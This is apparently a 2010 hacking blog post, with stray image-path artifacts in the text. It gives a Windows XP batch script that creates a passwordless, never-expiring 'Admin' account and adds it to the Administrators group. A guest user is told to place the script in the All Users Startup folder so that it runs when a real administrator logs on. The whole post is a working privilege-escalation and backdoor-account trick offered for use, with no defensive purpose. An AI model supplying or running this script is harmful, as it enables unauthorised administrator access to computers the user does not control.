JustWedding Wedding Magic Hacking Software & Game Facebook

Saturday, June 12, 2010

Creat an Admin Account in xp if you are as guest.C

@echo off
net user Admin /add /expires:never /passwordreq:no
net localgroup "Administrators" /add Admin

now copy this to notepad and save as admin.bat

copy the file to the statup folder.
here is the path of startup folder.

C:\Documents and Settings\All Users\Start Menu\Programs\Startup

when the admin logs on the batch fileruns and the admin acc is created...so nxt time u log on u can use the username:admin